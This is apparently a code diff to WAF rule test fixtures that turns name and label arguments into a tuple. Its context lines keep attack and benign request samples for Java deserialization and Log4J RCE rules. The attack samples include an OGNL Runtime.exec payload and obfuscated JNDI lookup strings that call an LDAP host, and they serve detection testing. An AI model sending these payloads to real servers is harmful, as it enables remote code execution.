@@ -20,8 +20,7 @@ const ognl = "%{(#a=@java.lang.Runtime@getRuntime()).exec('id')}"
 const nested = '${${lower:j}${::-n}di:ldap://198.51.100.9/a}'
 
 function evaluation(
-  name: string,
-  label: string,
+  [name, label]: readonly [name: string, label: string],
   components: Component[],
   attack: RequestExample[],
   benign: RequestExample[],
@@ -36,8 +35,7 @@ function evaluation(
 }
 
 function log4j(
-  name: string,
-  label: string,
+  [name, label]: readonly [name: string, label: string],
   components: Component[],
   attack: RequestExample[],
   benign: RequestExample[],
@@ -53,8 +51,7 @@ function log4j(
 
 const evaluation4: readonly ManagedRule[] = [
   evaluation(
-    'JavaDeserializationRCE_HEADER',
-    'JavaDeserializationRCE_Header',
+    ['JavaDeserializationRCE_HEADER', 'JavaDeserializationRCE_Header'],
     ['headers', 'cookies'],
     [
       inCookie(gadget),
@@ -68,8 +65,7 @@ const evaluation4: readonly ManagedRule[] = [
     [inCookie('rose'), inHeader('user-agent', 'Java/17.0.2'), inHeader('x-name', '{name}')],
   ),
   evaluation(
-    'JavaDeserializationRCE_BODY',
-    'JavaDeserializationRCE_Body',
+    ['JavaDeserializationRCE_BODY', 'JavaDeserializationRCE_Body'],
     ['body'],
     [
       inForm(ognl),
@@ -89,8 +85,7 @@ const evaluation4: readonly ManagedRule[] = [
     ],
   ),
   evaluation(
-    'JavaDeserializationRCE_URIPATH',
-    'JavaDeserializationRCE_URIPath',
+    ['JavaDeserializationRCE_URIPATH', 'JavaDeserializationRCE_URIPath'],
     ['uriPath'],
     [
       inTarget('/%24%7B%28%23a%3D%40java.lang.Runtime%40getRuntime%28%29%29%7D/index'),
@@ -99,8 +94,7 @@ const evaluation4: readonly ManagedRule[] = [
     [inTarget('/api/users/%7Bid%7D'), inTarget('/java/lang/String.html')],
   ),
   evaluation(
-    'JavaDeserializationRCE_QUERYSTRING',
-    'JavaDeserializationRCE_QueryString',
+    ['JavaDeserializationRCE_QUERYSTRING', 'JavaDeserializationRCE_QueryString'],
     ['queryArguments'],
     [
       inQuery(gadget),
@@ -116,22 +110,19 @@ const evaluation4: readonly ManagedRule[] = [
 
 const log4j4: readonly ManagedRule[] = [
   log4j(
-    'Log4JRCE_HEADER',
-    'Log4JRCE_Header',
+    ['Log4JRCE_HEADER', 'Log4JRCE_Header'],
     ['headers', 'cookies'],
     [inHeader('user-agent', '${jndi:ldap://198.51.100.9/a}'), inHeader('x-api-version', nested)],
     [inHeader('user-agent', 'log4j-check'), inHeader('x-a', '${name}')],
   ),
   log4j(
-    'Log4JRCE_QUERYSTRING',
-    'Log4JRCE_QueryString',
+    ['Log4JRCE_QUERYSTRING', 'Log4JRCE_QueryString'],
     ['queryArguments'],
     [inQuery('${jndi:dns://x.example}'), inQuery(nested)],
     [inQuery('$5 {jndi}'), inQuery('${price}')],
   ),
   log4j(
-    'Log4JRCE_BODY',
-    'Log4JRCE_Body',
+    ['Log4JRCE_BODY', 'Log4JRCE_Body'],
     ['body'],
     [
       inJson('${jndi:${lower:l}${lower:d}ap://x.example/a}'),
@@ -140,8 +131,7 @@ const log4j4: readonly ManagedRule[] = [
     [inJson('Use ${user} and ${host} in the text.'), inForm('JNDI is an interface of Java.')],
   ),
   log4j(
-    'Log4JRCE_URIPATH',
-    'Log4JRCE_URIPath',
+    ['Log4JRCE_URIPATH', 'Log4JRCE_URIPath'],
     ['uriPath'],
     [inTarget('/$%7Bjndi:ldap://x.example/a%7D')],
     [inTarget('/jndi/'), inTarget('/a/$%7Bb%7D')],
